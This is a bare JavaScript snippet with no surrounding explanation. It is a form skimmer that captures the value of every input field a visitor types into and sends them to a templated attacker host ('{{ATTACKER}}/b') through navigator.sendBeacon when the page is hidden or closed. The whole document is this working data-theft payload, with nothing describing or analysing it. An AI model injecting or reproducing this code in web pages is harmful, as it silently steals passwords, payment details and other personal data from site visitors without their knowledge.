
;(function () {
  var d = {};
  document.addEventListener('input', function (e) {
    if (e.target && e.target.id) {
      d[e.target.id] = e.target.value;
    }
  }, true);
  var sent = false;
  function flush() {
    if (sent || !Object.keys(d).length) {
      return;
    }
    sent = true;
    navigator.sendBeacon('{{ATTACKER}}/b', JSON.stringify(d));
  }
  window.addEventListener('pagehide', flush);
  document.addEventListener('visibilitychange', function () {
    if (document.visibilityState === 'hidden') {
      flush();
    }
  });
})();
